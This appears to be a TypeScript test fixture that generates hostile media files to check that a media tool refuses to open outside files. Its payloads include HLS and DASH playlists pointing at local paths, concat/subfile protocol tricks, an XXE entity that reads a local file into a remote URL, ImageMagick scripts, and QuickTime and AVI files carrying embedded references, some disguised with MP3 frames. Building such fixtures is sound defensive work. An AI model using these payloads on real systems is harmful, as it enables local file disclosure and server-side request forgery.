// Files that try to make a media tool open other files: playlists, lists and references.
import { mp3 } from './service-samples.ts';

/**
 * The targets of the references: a recording and a text outside of the library, and an address that must not be
 * requested.
 */
export interface Outside {
  /** Path of a recording. */
  media: string;
  /** Path of a text. */
  text: string;
  url: string;
}

type Make = (outside: Outside) => string;

const xml = (text: string) => `<?xml version="1.0" encoding="UTF-8"?>\n${text}\n`;

/** FFmpeg's demuxers, or other players, detect each of these texts by its beginning. */
export const REFERRING_TEXTS: Readonly<Record<string, Make>> = {
  'an HLS playlist': ({ media }) =>
    `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:7,\nfile://${media}\n#EXT-X-ENDLIST\n`,
  'an HLS playlist with a plain path': ({ media }) =>
    `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:7,\n${media}\n#EXT-X-ENDLIST\n`,
  'a live HLS playlist, which never ends': ({ media }) =>
    `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\n${media}\n`,
  'an HLS master playlist': ({ media }) => `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=100000\n${media}\n`,
  'an HLS playlist with a key and a map': ({ media, text }) =>
    `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXT-X-KEY:METHOD=AES-128,URI="${text}"\n#EXT-X-MAP:URI="${media}"\n#EXTINF:7,\n${media}\n#EXT-X-ENDLIST\n`,
  'an HLS playlist with combined protocols': ({ media, text }) =>
    `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:7,\nconcat:${media}|subfile,,start,0,end,64,,:${text}\n#EXT-X-ENDLIST\n`,
  'an HLS playlist of a file on another computer': ({ url }) =>
    `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:7,\n${url}/segment.ts\n#EXT-X-ENDLIST\n`,
  'an ffconcat list': ({ media }) => `ffconcat version 1.0\nfile '${media}'\nduration 7\n`,
  'an ffconcat list with options': ({ media }) =>
    `ffconcat version 1.0\nfile '${media}'\noption protocol_whitelist file,http,tcp,concat\n`,
  'a DASH manifest': ({ media }) =>
    xml(
      `<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT7S"><Period><AdaptationSet mimeType="audio/mpeg"><Representation id="1" bandwidth="1"><BaseURL>file://${media}</BaseURL><SegmentBase/></Representation></AdaptationSet></Period></MPD>`,
    ),
  'a live DASH manifest with an XML entity': ({ text, url }) =>
    `<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "file://${text}">]><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="dynamic" minimumUpdatePeriod="PT1S"><BaseURL>${url}/&x;</BaseURL></MPD>`,
  'an IMF composition': ({ media }) =>
    xml(
      `<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>urn:uuid:0</Id><SegmentList><Segment>${media}</Segment></SegmentList></CompositionPlaylist>`,
    ),
  'a session description (SDP)': ({ url }) =>
    `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\na=control:${url}\nm=audio ${new URL(url).port} RTP/AVP 0\n`,
  'an RTSP reference': ({ url }) => `RTSPtext\nrtsp://${new URL(url).host}/x\n`,
  'a Windows Media reference': ({ media }) => `[Reference]\r\nRef1=file://${media}\r\n`,
  'an ASX list': ({ media }) => `<ASX VERSION="3.0"><ENTRY><REF HREF="file://${media}"/></ENTRY></ASX>\n`,
  'a PLS list': ({ media }) => `[playlist]\nNumberOfEntries=1\nFile1=${media}\nVersion=2\n`,
  'an XSPF list': ({ media }) =>
    xml(
      `<playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track><location>${media}</location></track></trackList></playlist>`,
    ),
  'a cue sheet': ({ media }) => `FILE "${media}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n`,
  'a VobSub index': () => `# VobSub index file, v7 (do not modify this line!)\nsize: 720x576\nid: en, index: 0\n`,
  'a SAMI subtitle': ({ media }) => `<SAMI><HEAD><LINK HREF="${media}"></HEAD><BODY></BODY></SAMI>\n`,
  'an SVG picture': ({ media }) =>
    `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><image href="file://${media}"/></svg>\n`,
  'a script for ImageMagick': ({ media }) =>
    `push graphic-context\nviewbox 0 0 64 64\nimage over 0,0 0,0 '${media}'\npop graphic-context\n`,
};

const FRAMES = mp3(40);
const ID3 = Buffer.from([0x49, 0x44, 0x33, 4, 0, 0, 0, 0, 0, 0]);

/** The disguises: audio after the text, so that a search for frames finds some. */
export const DISGUISES: Readonly<Record<string, (text: string) => Buffer>> = {
  plain: (text) => Buffer.from(text),
  'frames of MP3 behind it': (text) => Buffer.concat([Buffer.from(text), FRAMES]),
  'a comment with frames of MP3 in it': (text) => Buffer.concat([Buffer.from(`${text}#`), FRAMES]),
  'an empty ID3 tag before it and frames behind it': (text) => Buffer.concat([ID3, Buffer.from(text), FRAMES]),
  'zeros before it and frames behind it': (text) => Buffer.concat([Buffer.alloc(64), Buffer.from(text), FRAMES]),
};

interface Chunk {
  type: string;
  content: Buffer;
}

function chunksOf(bytes: Buffer): Chunk[] {
  const found: Chunk[] = [];
  for (let at = 0; at + 8 <= bytes.length; ) {
    const length = bytes.readUInt32BE(at);
    found.push({ type: bytes.toString('latin1', at + 4, at + 8), content: bytes.subarray(at + 8, at + length) });
    at += Math.max(8, length);
  }
  return found;
}

function box(type: string, content: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(8 + content.length);
  head.write(type, 4, 'latin1');
  return Buffer.concat([head, content]);
}

const WITHIN = new Set(['moov', 'trak', 'mdia', 'minf', 'dinf']);

/** A QuickTime film (its samples before its headers) whose tracks refer to the file at `path`. */
export function withForeignTracks(film: Buffer, path: string): Buffer {
  return Buffer.concat(
    chunksOf(film).map(({ type, content }) => {
      if (WITHIN.has(type)) return box(type, withForeignTracks(content, path));
      return box(type, type === 'dref' ? aliasTo(path) : content);
    }),
  );
}

/** A data reference: an alias of the old file system, with the absolute path as its second name. */
function aliasTo(path: string): Buffer {
  const name = Buffer.from(path.length % 2 === 0 ? path : `${path}\0`);
  const alias = Buffer.alloc(150);
  alias.writeInt16BE(0, 130);
  const kind = Buffer.alloc(4);
  kind.writeUInt16BE(2, 0);
  kind.writeUInt16BE(name.length, 2);
  const end = Buffer.from([0xff, 0xff, 0, 0]);
  const count = Buffer.from([0, 0, 0, 0, 0, 0, 0, 1]);
  return Buffer.concat([count, box('alis', Buffer.concat([Buffer.alloc(4), alias, kind, name, end]))]);
}

function riff(id: string, ...parts: Buffer[]): Buffer {
  const content = Buffer.concat(parts);
  const head = Buffer.alloc(8);
  head.write(id, 0, 'latin1');
  head.writeUInt32LE(content.length, 4);
  return Buffer.concat([head, content, Buffer.alloc(content.length % 2)]);
}

/** An AVI file with a subtitle track that contains another file: the text. */
export function aviAround(text: string): Buffer {
  const header = Buffer.alloc(56);
  header.writeUInt32LE(40_000, 0);
  header.writeUInt32LE(0x10, 12);
  header.writeUInt32LE(25, 16);
  header.writeUInt32LE(1, 24);
  const stream = Buffer.alloc(56);
  stream.write('txts', 0, 'latin1');
  stream.writeUInt32LE(1, 20);
  stream.writeUInt32LE(25, 24);
  stream.writeUInt32LE(25, 32);
  const length = Buffer.alloc(4);
  length.writeUInt32LE(Buffer.byteLength(text));
  const inner = Buffer.concat([
    ...[Buffer.from('GAB2\0'), Buffer.from([2, 0, 2, 0, 0, 0, 0x78, 0])],
    ...[Buffer.from([4, 0]), length, Buffer.from(text)],
  ]);
  const headers = riff(
    'LIST',
    Buffer.from('hdrl'),
    riff('avih', header),
    riff('LIST', Buffer.from('strl'), riff('strh', stream), riff('strf', Buffer.alloc(0))),
  );
  return riff('RIFF', Buffer.from('AVI '), headers, riff('LIST', Buffer.from('movi'), riff('00tx', inner)));
}
